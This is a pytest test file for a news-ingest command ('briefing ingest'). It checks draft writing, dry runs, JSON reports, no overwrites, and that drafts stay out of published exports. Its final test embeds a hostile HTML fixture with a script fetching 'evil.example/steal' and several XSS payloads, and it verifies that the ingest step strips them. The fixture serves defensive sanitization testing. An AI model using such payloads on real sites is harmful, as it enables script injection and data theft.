"""`briefing ingest` end to end, through the installed command, on throw-away copies of the project.

Drafts are written, `briefing check` stays clean, a second run adds nothing, --dry-run writes nothing,
--new-actors writes actors the drafts can name, --format json is one parseable object, no file is ever
overwritten, and no draft reaches the published record.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from tests.ingest_gold import FIXTURES, ROOT, empty_project, record_project

BRIEFING = Path(sys.executable).with_name("briefing")
# The one warning a draft carries by design: its summary is the source's own lead, until an editor rewrites it.
DRAFT_WARNING = "summary: copies the quote of sources[0]; write it in your own words"


def briefing(project: Path, *argv: str) -> subprocess.CompletedProcess:
    return subprocess.run([str(BRIEFING), *argv], cwd=project, capture_output=True, text=True, timeout=120, check=False)


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def check_is_clean(project: Path) -> list[str]:
    """`briefing check` passes; the warnings it gives (one a line) are returned."""
    result = briefing(project, "check")
    assert result.returncode == 0, result.stdout + result.stderr
    return [line for line in result.stdout.splitlines() if ": warning: " in line]


@pytest.mark.parametrize(
    ("document", "extra"),
    [("liveblog.html", ()), ("article.html", ()), ("seed.txt", ("--published", "2024-11-05"))],
)
def test_drafts_pass_check_and_a_second_run_adds_nothing(tmp_path, document, extra):
    project = empty_project(tmp_path) if document == "seed.txt" else record_project(tmp_path)
    first = briefing(project, "ingest", str(FIXTURES / document), *extra, "--format", "json")
    assert first.returncode == 0, first.stderr
    report = json.loads(first.stdout)
    written = [event["file"] for event in report["events"]]
    assert written and all((project / file).is_file() for file in written)
    for file in written:
        text = (project / file).read_text(encoding="utf-8")
        assert "\nstatus: draft\n" in text and "to be rewritten in our words" in text
    warnings = check_is_clean(project)
    assert all(line.endswith(DRAFT_WARNING) for line in warnings), warnings
    after_first = snapshot(project / "content")

    second = briefing(project, "ingest", str(FIXTURES / document), *extra)
    assert second.returncode == 0, second.stderr
    assert "No new drafts." in second.stdout
    for event in report["events"]:
        assert f"already in the record: {event['id']}:" in second.stdout
    assert snapshot(project / "content") == after_first


def test_on_the_curated_record_most_seed_items_are_already_in_it(tmp_path):
    project = record_project(tmp_path)
    result = briefing(project, "ingest", str(FIXTURES / "seed.txt"), "--published", "2024-11-05")
    assert result.returncode == 0, result.stderr
    assert result.stdout.count("already in the record: ") >= 14
    assert "Source: content/sources/independent-live-2024-11-05.yaml (already in the record)" in result.stdout


def test_dry_run_writes_nothing(tmp_path):
    project = record_project(tmp_path)
    before = snapshot(project)
    result = briefing(project, "ingest", str(FIXTURES / "liveblog.html"), "--dry-run", "--new-actors")
    assert result.returncode == 0, result.stderr
    assert "Drafts (10):" in result.stdout
    assert (
        result.stdout.rstrip()
        .splitlines()[-1]
        .startswith("Dry run: nothing written (would write 10 drafts, 1 source, 5 actors)")
    )
    assert snapshot(project) == before


def test_new_actors_are_written_for_the_editor_to_complete(tmp_path):
    project = record_project(tmp_path)
    result = briefing(project, "ingest", str(FIXTURES / "liveblog.html"), "--new-actors", "--format", "json")
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    for actor in report["new_actors"]:
        assert (project / "content" / "actors" / f"{actor['id']}.yaml").is_file()
    peskov = next(e for e in report["events"] if "dmitry-peskov" in e["new_actors"])
    assert "  - dmitry-peskov  # new actor: Dmitry Peskov" in (project / peskov["file"]).read_text(encoding="utf-8")
    assert all(line.endswith(DRAFT_WARNING) for line in check_is_clean(project))


def test_the_json_report_is_one_object_with_events_new_actors_and_skipped(tmp_path):
    project = record_project(tmp_path)
    result = briefing(project, "ingest", str(FIXTURES / "liveblog.html"), "--format", "json", "--dry-run")
    report = json.loads(result.stdout)
    assert [sorted(e)[:0] for e in report["events"]]  # a list of objects
    event = report["events"][0]
    assert (event["id"], event["date"], event["title"]) == (
        "ukraine-says-hit-oil-depot-bryansk-region",
        "2024-11-21",
        "Ukraine says it hit an oil depot in Bryansk region",
    )
    assert event["file"] == "content/events/2024/11/ukraine-says-hit-oil-depot-bryansk-region.yaml"
    assert event["actors"] == ["ukraine", "russia"]
    assert {"name": "Dmitry Peskov", "id": "dmitry-peskov"}.items() <= next(
        a for a in report["new_actors"] if a["name"] == "Dmitry Peskov"
    ).items()
    assert {"text": "Most read", "reason": "boilerplate: page furniture"} not in report["skipped"]  # never read


def test_an_existing_file_is_never_overwritten(tmp_path):
    project = record_project(tmp_path)
    occupied = project / "content" / "events" / "2024" / "11" / "kyiv-air-defences-down-drones-overnight-attack.yaml"
    mine = (ROOT / "content/events/2024/11/kyiv-second-wave-drone-attack.yaml").read_text(encoding="utf-8")
    occupied.write_text(mine.replace("Kyiv fights off", "An editor's own - Kyiv fights off"), encoding="utf-8")
    result = briefing(project, "ingest", str(FIXTURES / "liveblog.html"), "--format", "json")
    assert result.returncode == 0, result.stderr
    ids = [e["id"] for e in json.loads(result.stdout)["events"]]
    assert "kyiv-air-defences-down-drones-overnight-attack-2" in ids
    assert occupied.read_text(encoding="utf-8").startswith("title: An editor's own - Kyiv fights off")


def test_drafts_never_reach_the_published_record(tmp_path):
    project = record_project(tmp_path)
    report = json.loads(briefing(project, "ingest", str(FIXTURES / "liveblog.html"), "--format", "json").stdout)
    exported = briefing(project, "export", "json")
    assert exported.returncode == 0, exported.stderr
    published = {event["id"] for event in json.loads(exported.stdout)["events"]}
    assert published and not published & {e["id"] for e in report["events"]}


def test_the_repository_content_is_never_written():
    # Every test here works on a copy; this guards against a test that forgets to.
    assert not list((ROOT / "content" / "sources").glob("meridian-news-*.yaml"))
    assert not list((ROOT / "content" / "events").rglob("*bryansk*"))


HOSTILE_PAGE = (
    """<!DOCTYPE html><html><head><meta charset="utf-8">
<title>Live: "quotes", colons: and # hashes — 🚀 &lt;b&gt;</title>
<meta property="article:published_time" content="2024-11-21T07:00:00+00:00">
<script>fetch('https://evil.example/steal')</script></head><body><main><article>
<h1>Live: "quotes", colons: and # hashes</h1>
<article class="post" id="p1"><time datetime="2024-11-21T08:00:00Z">08:00</time>
<h2>Drones over Kyiv: &lt;script&gt;alert(1)&lt;/script&gt;</h2>
<p onclick="alert(2)">Air defence units shot down drones over Kyiv overnight, the mayor said; see
[x](javascript:alert(3)) and &lt;img src=x onerror=alert(4)&gt; \u202eand this\u202c.</p>
<p>"""
    + "A very long sentence about the attack that goes on and on, " * 8
    + """said officials.</p></article>
<article class="post" id="p2"><time datetime="not a date">later</time><time datetime="2024-11-21T09:00:00Z">09:00</time>
<h2>- a heading: that starts like a list</h2><p># Kyiv's mayor said yesterday that power was back.</p></article>
</article></main></body></html>"""
)


def test_hostile_text_in_a_page_gives_drafts_that_check_without_error(tmp_path):
    project = record_project(tmp_path)
    page = tmp_path / "hostile.html"
    page.write_text(HOSTILE_PAGE, encoding="utf-8")
    result = briefing(project, "ingest", str(page), "--format", "json")
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    assert len(report["events"]) == 2
    warnings = check_is_clean(project)  # errors would fail here; what cleaning removes is only warned about
    assert all(p in line for line in warnings for p in [": warning: "])
    text = "".join((project / e["file"]).read_text(encoding="utf-8") for e in report["events"])
    assert "evil.example" not in text and "onclick" not in text
    assert all(len(quote) <= 300 for e in report["events"] for quote in e["quotes"])
